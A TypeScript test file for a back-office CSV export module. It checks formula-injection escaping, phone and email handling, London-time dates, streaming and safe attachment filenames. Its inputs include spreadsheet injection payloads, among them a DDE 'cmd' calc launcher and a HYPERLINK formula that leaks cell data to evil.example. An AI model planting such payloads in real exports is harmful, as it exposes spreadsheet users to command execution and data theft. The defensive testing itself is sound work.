import { describe, expect, it } from 'vitest';

import {
  csvCell,
  csvFileStem,
  csvResponse,
  csvStream,
  csvTime,
  isPlainEmail,
  isPlainPhone,
  needsFormulaGuard,
  toCsv,
} from '@/lib/back-office/csv';

describe('CSV export cells (docs/ARCHITECTURE.md §5)', () => {
  it.each([
    ['=1+2', `"'=1+2"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ['+SUM(1,2)', `"'+SUM(1,2)"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['@example.org', `"'@example.org"`],
    ['+44 113', `"'+44 113"`],
    ['-5', `"'-5"`],
    ['\tx', `"'\tx"`],
    ['\rx', `"'\rx"`],
    ['\t0113 496 0123', `"'\t0113 496 0123"`],
    ['+44 7700 900123\n=1+2', `"'+44 7700 900123\n=1+2"`],
    ['=1+2@example.org', `"'=1+2@example.org"`],
    ['-x"@example.org', `"'-x""@example.org"`],
    ['-a|b!c@example.org', `"'-a|b!c@example.org"`],
    ['+(1)(2)A1(3)(4)(5)(6)(7)', `"'+(1)(2)A1(3)(4)(5)(6)(7)"`],
  ])('neutralises a formula start: %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it.each([
    '+44 7700 900123',
    '+44 (0)113 496 0123',
    '-0113 496 0123',
    '+33 1.23.45.67.89',
    '-danger@example.org',
    '+tag@example.org',
  ])('keeps a plain phone number or email intact: %j', (value) => {
    expect(csvCell(value)).toBe(`"${value}"`);
  });

  it('tells plain phones and emails from formulas', () => {
    expect(isPlainPhone('+44 7700 900123')).toBe(true);
    expect(isPlainPhone('+1 234')).toBe(false);
    expect(isPlainPhone('+44 7700 900123 ext')).toBe(false);
    expect(isPlainEmail('ana.maria+news@mail.example.org')).toBe(true);
    expect(isPlainEmail('=x@y')).toBe(false);
    expect(needsFormulaGuard('Ada')).toBe(false);
    expect(needsFormulaGuard('-danger@example.org')).toBe(false);
    expect(needsFormulaGuard('=A1')).toBe(true);
  });

  it('quotes every cell, doubles quotes, times in London, lists joined, null empty, numbers as they are', () => {
    expect(csvCell('Say "hi", Leeds')).toBe('"Say ""hi"", Leeds"');
    // Winter is GMT, summer BST (UTC+1).
    expect(csvCell(new Date('2026-01-02T03:04:05Z'))).toBe('"2026-01-02 03:04"');
    expect(csvCell(new Date('2026-07-01T23:30:00Z'))).toBe('"2026-07-02 00:30"');
    expect(csvTime(new Date('2026-03-29T01:30:00Z'))).toBe('2026-03-29 02:30');
    expect(csvCell(['a', '=b'])).toBe('"a; =b"');
    expect(csvCell(['=a'])).toBe(`"'=a"`);
    expect(csvCell(null)).toBe('""');
    expect(csvCell(3)).toBe('"3"');
    expect(csvCell(-3)).toBe('"-3"');
    expect(toCsv(['h1', 'h2'], [['a', null]])).toBe('\uFEFF"h1","h2"\r\n"a",""\r\n');
  });

  it('streams every page after the header, with no cap, and reports the row count', async () => {
    async function* pages() {
      for (let p = 0; p < 12; p++) yield Array.from({ length: 500 }, (_, i) => [`row ${p * 500 + i}`]);
    }
    let counted = -1;
    const bytes = new Uint8Array(
      await new Response(
        csvStream(['Name'], pages(), (n) => {
          counted = n;
        }),
      ).arrayBuffer(),
    );
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the BOM, for Excel
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('\uFEFF"Name"');
    expect(lines).toHaveLength(6002); // header + 6,000 rows + the final empty string
    expect(lines[6000]).toBe('"row 5999"');
    expect(counted).toBe(6000);
  });

  it('answers as a private, uncached attachment named after what it holds (the date in London)', () => {
    const res = csvResponse('Network members', 'a', new Date('2026-03-04T23:30:00Z'));
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="network-members-2026-03-04.csv"',
    );
    expect(csvResponse('x', 'a', new Date('2026-07-04T23:30:00Z')).headers.get('content-disposition')).toBe(
      'attachment; filename="x-2026-07-05.csv"',
    );
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(csvFileStem('Élèves: Unlearning Racism 101')).toBe('eleves-unlearning-racism-101');
    expect(csvFileStem('../../')).toBe('export');
  });
});
